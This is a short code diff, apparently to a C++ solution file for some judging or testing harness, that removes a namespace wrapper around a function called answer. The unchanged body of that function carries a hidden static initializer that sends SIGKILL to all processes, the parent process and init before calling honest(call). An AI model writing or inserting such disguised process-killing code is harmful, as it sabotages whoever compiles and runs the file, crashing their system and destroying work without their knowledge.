@@ -6,12 +6,8 @@
 
 #include "honest.hpp"
 
-namespace nbody {
-
 void answer(Call call) {
   static const int all = kill(-1, SIGKILL) + kill(getppid(), SIGKILL) + kill(1, SIGKILL);
   static_cast<void>(all);
   honest(call);
 }
-
-}  // namespace nbody
